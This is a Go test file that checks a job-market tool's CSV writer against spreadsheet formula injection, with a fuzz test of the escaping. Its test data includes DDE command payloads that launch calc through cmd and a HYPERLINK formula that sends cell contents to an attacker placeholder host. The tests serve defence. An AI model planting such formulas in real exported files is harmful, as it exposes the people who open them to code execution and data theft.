package data_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"strings"
	"testing"

	"github.com/jobmarket/jobmarket/data"
)

var csvCellCases = []struct {
	name, in, out string
}{
	{"empty", "", ""},
	{"text", "Berlin", "Berlin"},
	{"formula", "=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
	{"plus formula", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"minus formula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"at", "@SUM(A1)", "'@SUM(A1)"},
	{"tab", "\t=1", "'\t=1"},
	{"carriage return", "\r=1", "'\r=1"},
	{"negative number", "-0.125", "-0.125"},
	{"signed number", "+3", "+3"},
	{"exponent", "-1.5e-05", "-1.5e-05"},
	{"infinity", "-Inf", "'-Inf"},
	{"lone dash", "-", "'-"},
	{"quote then formula", "'=x", "''=x"},
	{"two quotes", "''", "'''"},
	{"quote then text", "'tis", "'tis"},
	{"lone quote", "'", "'"},
}

func TestCSVCell(t *testing.T) {
	for _, tc := range csvCellCases {
		t.Run(tc.name, func(t *testing.T) {
			if got := data.CSVCell(tc.in); got != tc.out {
				t.Fatalf("CSVCell(%q) = %q, want %q", tc.in, got, tc.out)
			}
			if got := data.ReadCSVCell(tc.out); got != tc.in {
				t.Fatalf("ReadCSVCell(%q) = %q, want %q", tc.out, got, tc.in)
			}
		})
	}
}

func FuzzCSVCell(f *testing.F) {
	for _, tc := range csvCellCases {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := data.CSVCell(s)
		if got := data.ReadCSVCell(cell); got != s {
			t.Fatalf("ReadCSVCell(CSVCell(%q)) = %q", s, got)
		}
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			if strings.Trim(cell, "0123456789+-.eE") != "" {
				t.Fatalf("CSVCell(%q) = %q starts a formula", s, cell)
			}
		}
	})
}

// TestCSVFilesNeutralizeFormulas writes a board's formula into both CSV
// tables the tool writes: no cell of either may start a formula, and both
// read back what was written.
func TestCSVFilesNeutralizeFormulas(t *testing.T) {
	formula := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	rejects := []data.Reject{{Source: "@board", URL: "https://board.example/1", Stage: "transform", Reason: formula, Code: "-x"}}
	premiums := []data.Premium{{Region: "+EU", Quarter: "2026Q1", NOpenStack: 3, NPython: 4, MedianOpenStackUSD: 1, MedianPythonUSD: 2,
		Premium: -0.25, CILow: -0.5, CIHigh: 0.1, Confidence: 0.95, Method: "raw", Note: formula, LogGap: -0.3, SE: math.NaN(),
		PValue: math.NaN(), PHolm: math.NaN(), Explained: math.NaN(), Unexplained: math.NaN(), Detail: "\tdetail"}}
	var rb, pb bytes.Buffer
	if err := data.WriteRejectsCSV(&rb, rejects); err != nil {
		t.Fatal(err)
	}
	if err := data.WritePremiumsCSV(&pb, premiums); err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"rejects": rb.Bytes(), "premiums": pb.Bytes()} {
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q starts a formula", name, cell)
				}
				if strings.HasPrefix(cell, "-") && cell != "-0.25" && cell != "-0.5" && cell != "-0.3" {
					t.Errorf("%s: cell %q starts a formula", name, cell)
				}
			}
		}
	}
	if !strings.Contains(pb.String(), ",-0.25,-0.5,") {
		t.Errorf("premiums: negative numbers were changed:\n%s", pb.String())
	}
	gotRejects, err := data.ReadRejectsCSV(&rb)
	if err != nil {
		t.Fatal(err)
	}
	if gotRejects[0] != rejects[0] {
		t.Errorf("rejects read back %+v, want %+v", gotRejects[0], rejects[0])
	}
	gotPremiums, err := data.ReadPremiumsCSV(&pb)
	if err != nil {
		t.Fatal(err)
	}
	if g := gotPremiums[0]; g.Region != "+EU" || g.Note != formula || g.Detail != "\tdetail" || g.Premium != -0.25 {
		t.Errorf("premiums read back %+v", g)
	}
}
